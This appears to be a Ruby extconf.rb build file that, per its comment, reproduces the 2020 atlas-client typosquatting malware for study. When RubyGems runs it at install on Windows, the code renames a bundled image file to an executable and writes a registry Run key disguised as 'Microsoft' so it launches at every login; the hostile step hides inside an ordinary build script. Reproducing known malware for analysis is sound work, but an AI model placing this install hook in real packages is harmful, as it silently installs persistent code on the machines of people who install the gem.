# Imitates the atlas-client typosquats (ReversingLabs, 2020): extconf.rb,
# run by RubyGems at install, registers a program to start at every login.
require 'mkmf'

if RbConfig::CONFIG['host_os'] =~ /mswin|mingw/
  File.rename(File.join(__dir__, 'aaa.png'), 'a.exe')
  system("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Microsoft /t REG_SZ /d a.exe /f")
end
create_makefile('atlas')
